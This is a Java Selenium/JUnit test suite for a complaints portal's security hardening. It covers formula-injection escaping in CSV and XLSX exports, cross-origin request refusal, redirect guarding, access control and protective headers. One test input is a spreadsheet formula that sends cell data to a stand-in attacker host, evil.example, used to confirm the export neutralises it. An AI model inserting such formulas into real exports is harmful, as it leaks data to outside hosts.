package accord.portal;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import accord.testing.BrowserTest;
import accord.testing.Pages;
import accord.testing.SignedInClient;
import java.net.URI;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.openqa.selenium.By;
import org.openqa.selenium.WebDriver;
import org.openqa.selenium.support.ui.ExpectedConditions;
import org.openqa.selenium.support.ui.WebDriverWait;

/**
 * The portal as an attacker meets it: a formula typed into a complaint stays text in every export,
 * a form on another site cannot sign a person out or change their settings, the language switch
 * goes back only to the portal's own pages, and every answer carries the headers that keep a
 * browser from guessing, framing, caching or telling the portal's address to other sites.
 */
class HardeningPortalIT extends BrowserTest {

    private static final String EVIL = "http://evil.example";

    @Test
    void aFormulaTypedAsAComplaintSubjectIsExportedAsText() throws Exception {
        String marker = String.valueOf(System.nanoTime());
        String subject = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\") " + marker;
        browser.get(base + "index.xhtml");
        pages.signInAs("ma.lin");
        pages.useEnglish();
        browser.get(base + "complaints/new.xhtml");
        pages.waitFor("intake:register");
        By suggestion = By.cssSelector("#intake\\:customer_panel .ui-autocomplete-item");
        browser.findElement(By.id("intake:customer_input")).sendKeys("恒通");
        new WebDriverWait(browser, Duration.ofSeconds(10), Pages.LOOK_AGAIN).until(ExpectedConditions.elementToBeClickable(suggestion)).click();
        pages.waitForText("intake:customer-facts", "Key account (A)");
        browser.findElement(By.id("intake:contactName")).sendKeys("李工");
        browser.findElement(By.id("intake:contactPhone")).sendKeys("021-5555 0100");
        browser.findElement(By.xpath("//*[@id='intake:channel']//*[text()='Email']")).click();
        pages.chooseFrom("intake:category", "Product quality");
        browser.findElement(By.xpath("//*[@id='intake:severity']//*[text()='Low']")).click();
        browser.findElement(By.id("intake:subject")).sendKeys(subject);
        browser.findElement(By.id("intake:description")).sendKeys("-1+2 in the description as well");
        browser.findElement(By.id("intake:register")).click();
        pages.waitForText("messages", "is registered");

        SignedInClient agent = SignedInClient.signIn(base.toURI(), "ma.lin");
        HttpResponse<byte[]> csv = agent.submit("complaints/index.xhtml", "register", "export-csv", Map.of("text", marker));
        String text = new String(csv.body(), StandardCharsets.UTF_8);
        assertTrue(text.contains("\"'" + subject.replace("\"", "\"\"") + "\""), "the formula quoted: " + text);
        List<String> cells = text.lines().skip(1).flatMap(line -> List.of(line.split("\",\"")).stream())
                .map(cell -> cell.replaceFirst("^\"", "")).toList();
        assertTrue(cells.stream().noneMatch(cell -> cell.startsWith("=") || cell.startsWith("@")), "no cell a spreadsheet runs: " + cells);

        HttpResponse<byte[]> xlsx = agent.submit("complaints/index.xhtml", "register", "export-xlsx", Map.of("text", marker));
        try (var book = new org.apache.poi.xssf.usermodel.XSSFWorkbook(new java.io.ByteArrayInputStream(xlsx.body()))) {
            var row = book.getSheetAt(0).getRow(1);
            boolean found = false;
            for (var cell : row) {
                assertFalse(cell.getCellType() == org.apache.poi.ss.usermodel.CellType.FORMULA, "no formula cell");
                found |= subject.equals(cell.getStringCellValue());
            }
            assertTrue(found, "the subject as typed, a text cell");
        }
    }

    @Test
    void aFormOnAnotherSiteCannotSignAPersonOutOrChangeTheirSettings() throws Exception {
        URI uri = base.toURI();
        SignedInClient person = SignedInClient.signIn(uri, "zhang.wei");
        assertEquals(403, person.postFrom("signout", "Origin", EVIL).statusCode());
        assertEquals(403, person.postFrom("language?to=en", "Origin", EVIL).statusCode());
        assertEquals(403, person.postFrom("timezone?zone=Europe/Berlin", "Origin", EVIL).statusCode());
        assertEquals(403, person.postFrom("signout").statusCode(), "no Origin and no Referer: not from the portal's page");
        HttpResponse<String> home = person.get("index.xhtml");
        assertEquals(200, home.statusCode(), "still signed in");
        assertTrue(home.body().contains("signed-in-as"), "still signed in");

        String origin = uri.getScheme() + "://" + uri.getAuthority();
        HttpResponse<String> switched = person.postFrom("language?to=en", "Origin", origin,
                "Referer", origin + "//evil.example/inbox/index.xhtml");
        assertEquals(302, switched.statusCode());
        assertEquals(uri.getPath(), URI.create(switched.headers().firstValue("Location").orElseThrow()).getPath(),
                "a path naming another site goes home instead");
        assertEquals(302, person.postFrom("signout", "Origin", origin).statusCode(), "from the portal's own page it works");

        SignedInClient admin = SignedInClient.signIn(uri, "admin");
        String trail = new String(admin.submit("admin/audit.xhtml", "audit", "export-csv", Map.of("actor", "zhang.wei")).body(),
                StandardCharsets.UTF_8);
        assertTrue(trail.contains("Signed out") || trail.contains("退出登录"), "the sign-out is a line: " + trail);
        assertTrue(trail.contains("POST /signout"), "and so are the refused ones: " + trail);
    }

    @Test
    void someoneElsesPersonRecordIsNotShownAndTheAttemptIsOnTheRecord() throws Exception {
        URI uri = base.toURI();
        SignedInClient engineer = SignedInClient.signIn(uri, "he.peng");
        String page = engineer.get("people/view.xhtml?login=liu.yang").body();
        assertTrue(page.contains("在您可查看档案的人员中没有此人") || page.contains("No such person among those"),
                "刘洋's record is not shown to a support engineer, as if there were no such person");
        assertTrue(!page.contains("刘洋"), "not even the name");

        SignedInClient admin = SignedInClient.signIn(uri, "admin");
        String trail = new String(admin.submit("admin/audit.xhtml", "audit", "export-csv", Map.of("actor", "he.peng")).body(),
                StandardCharsets.UTF_8);
        // In the administrator's language, whichever it is: the attempt and the reason the engineer was given.
        assertTrue(trail.contains("see the record of liu.yang") && trail.contains("No such person among those whose records you may see.")
                || trail.contains("查看 liu.yang 的员工档案") && trail.contains("在您可查看档案的人员中没有此人。"), trail);
        assertTrue(!trail.contains("people.notFound"), "no message key: " + trail);
    }

    @Test
    void everyAnswerCarriesTheProtectiveHeaders() throws Exception {
        URI uri = base.toURI();
        HttpResponse<byte[]> login = SignedInClient.attemptSignIn(uri, "zhang.wei", SignedInClient.DEMO_PASSWORD);
        assertTrue(login.headers().allValues("Set-Cookie").stream().filter(c -> c.startsWith("JSESSIONID="))
                .allMatch(c -> c.toLowerCase(java.util.Locale.ROOT).contains("samesite=lax") && c.contains("HttpOnly")),
                login.headers().allValues("Set-Cookie").toString());

        SignedInClient person = SignedInClient.signIn(uri, "zhang.wei");
        HttpResponse<String> page = person.get("inbox/index.xhtml");
        assertEquals(200, page.statusCode());
        assertEquals("nosniff", page.headers().firstValue("X-Content-Type-Options").orElse(""));
        assertEquals("same-origin", page.headers().firstValue("Referrer-Policy").orElse(""));
        assertEquals("DENY", page.headers().firstValue("X-Frame-Options").orElse(""));
        assertTrue(page.headers().firstValue("Permissions-Policy").orElse("").contains("camera=()"));
        assertEquals("no-store", page.headers().firstValue("Cache-Control").orElse(""), "a signed-in page is never kept");
        assertEquals(List.of(), page.headers().allValues("Server"), "no banner naming the server");
        assertEquals(List.of(), page.headers().allValues("X-Powered-By"));

        java.util.regex.Matcher script = java.util.regex.Pattern.compile("src=\"([^\"]*jakarta\\.faces\\.resource/[^\"]+)\"").matcher(page.body());
        assertTrue(script.find(), "the page loads a resource");
        HttpResponse<String> resource = person.get(script.group(1).replace("&amp;", "&").replaceFirst("^" + uri.getPath(), ""));
        assertEquals(200, resource.statusCode());
        assertFalse(resource.headers().firstValue("Cache-Control").orElse("").contains("no-store"), "style and scripts stay cacheable");
        assertEquals("nosniff", resource.headers().firstValue("X-Content-Type-Options").orElse(""));
    }

    @Test
    void expectedConditionsAnswerAsSuchNotAsErrors() throws Exception {
        URI uri = base.toURI();
        java.net.http.HttpClient http = java.net.http.HttpClient.newBuilder().version(java.net.http.HttpClient.Version.HTTP_1_1)
                .cookieHandler(new java.net.CookieManager()).build();
        String login = http.send(java.net.http.HttpRequest.newBuilder(uri.resolve("login.xhtml")).build(),
                HttpResponse.BodyHandlers.ofString()).body();
        // A view state that is not this session's (a page left open past its session, or forged).
        String form = "signin=signin&signin%3Alogin=zhang.wei&signin%3Apassword=x&signin%3Asubmit="
                + "&jakarta.faces.ViewState=1%3A2&primefaces.nonce=" + SignedInClient.nonce(login);
        HttpResponse<String> stale = http.send(java.net.http.HttpRequest.newBuilder(uri.resolve("login.xhtml"))
                .header("Content-Type", "application/x-www-form-urlencoded").POST(java.net.http.HttpRequest.BodyPublishers.ofString(form))
                .build(), HttpResponse.BodyHandlers.ofString());
        assertEquals(302, stale.statusCode(), "the page again, not an error: " + stale.body());
        HttpResponse<String> again = http.send(java.net.http.HttpRequest.newBuilder(URI.create(stale.headers().firstValue("Location")
                .orElseThrow())).build(), HttpResponse.BodyHandlers.ofString());
        assertTrue(again.body().contains("expired-notice"), "it says why nothing happened");

        HttpResponse<String> put = http.send(java.net.http.HttpRequest.newBuilder(uri.resolve("login.xhtml"))
                .PUT(java.net.http.HttpRequest.BodyPublishers.ofString("x")).build(), HttpResponse.BodyHandlers.ofString());
        assertEquals(405, put.statusCode());
        assertEquals("GET, HEAD, POST", put.headers().firstValue("Allow").orElse(""));

        HttpResponse<String> huge = http.send(java.net.http.HttpRequest.newBuilder(uri.resolve("login.xhtml"))
                .header("Content-Type", "application/x-www-form-urlencoded")
                .POST(java.net.http.HttpRequest.BodyPublishers.ofString("x=" + "a".repeat(3_000_000))).build(),
                HttpResponse.BodyHandlers.ofString());
        assertEquals(413, huge.statusCode());
        assertTrue(huge.body().contains("error-413"), huge.body());
    }

    /** 12 MB: refused beside the file's field, in the browser as soon as it is chosen and on the server if sent anyway. */
    @Test
    void aFileOverTenMegabytesIsRefusedBesideItsFieldAndWhatWasTypedStays() throws Exception {
        java.nio.file.Path twelve = java.nio.file.Files.createTempFile("twelve-megabytes", ".pdf");
        byte[] content = new byte[12 * 1024 * 1024];
        byte[] head = "%PDF-1.4\n".getBytes(StandardCharsets.US_ASCII);
        System.arraycopy(head, 0, content, 0, head.length);
        java.nio.file.Files.write(twelve, content);
        String subject = "Twelve megabytes " + System.nanoTime();

        browser.get(base + "index.xhtml");
        pages.signInAs("ma.lin");
        pages.useEnglish();
        browser.get(base + "complaints/new.xhtml");
        pages.waitFor("intake:register");
        browser.findElement(By.id("intake:subject")).sendKeys(subject);
        browser.findElement(By.id("intake:files_input")).sendKeys(twelve.toString());
        By besideTheField = By.xpath("//*[@id='intake:files']/ancestor::div[contains(@class,'field')][1]");
        new WebDriverWait(browser, Duration.ofSeconds(10), Pages.LOOK_AGAIN).until(
                ExpectedConditions.textToBePresentInElementLocated(besideTheField, "The file is larger than 10 MB."));
        assertEquals(subject, browser.findElement(By.id("intake:subject")).getAttribute("value"));
        assertEquals("", browser.findElement(By.id("intake:files_input")).getAttribute("value"), "the file is not sent for nothing");
        ((org.openqa.selenium.JavascriptExecutor) browser).executeScript("document.getElementById('intake:files').scrollIntoView({block: 'center'})");
        accord.testing.Browser.screenshot(browser, "upload-too-big");

        // Sent past the browser's check: the server refuses it beside the same field and gives back what was typed.
        SignedInClient agent = SignedInClient.signIn(base.toURI(), "ma.lin");
        HttpResponse<String> answer = agent.open("complaints/new.xhtml", "intake").pressWithFile("register",
                Map.of("subject", subject, "description", "Typed before the file was chosen."), "files", "twelve.pdf", content);
        assertEquals(200, answer.statusCode(), "the form again, not an error page");
        String html = answer.body();
        int files = html.indexOf("id=\"intake:files\"");
        String field = html.substring(files, html.indexOf("class=\"hint\"", files));
        assertTrue(field.contains("10 MB"), "said beside the file's field: " + field);
        assertTrue(java.util.regex.Pattern.compile("id=\"intake:subject\"[^>]*value=\"" + subject + "\"").matcher(html).find(),
                "the subject typed stays");
        assertTrue(html.contains(">Typed before the file was chosen.</textarea>"), "the description typed stays");
        java.nio.file.Files.delete(twelve);
    }

    @Test
    void aLoginPageLeftOpenPastItsSessionOpensAgainAndSaysWhy() {
        WebDriver chinese = accord.testing.Browser.open("zh-CN");
        try {
            chinese.get(base + "login.xhtml");
            Pages zh = new Pages(chinese, base);
            zh.waitFor("signin:login");
            // As after the session ran out: the page's view state is no longer the server's.
            ((org.openqa.selenium.JavascriptExecutor) chinese).executeScript(
                    "document.querySelectorAll('input[name=\"jakarta.faces.ViewState\"]').forEach(i => i.value = '1:2');");
            chinese.findElement(By.id("signin:login")).sendKeys("zhang.wei");
            chinese.findElement(By.id("signin:password")).sendKeys("accord-demo");
            chinese.findElement(By.id("signin:submit")).click();
            zh.waitForText("expired-notice", "页面已重新打开");
            assertTrue(zh.present(By.id("sign-out")).isEmpty(), "not signed in by a stale page");
            accord.testing.Browser.screenshot(chinese, "login-expired-zh");
        } finally {
            accord.testing.Browser.close(chinese, base);
        }
    }
}
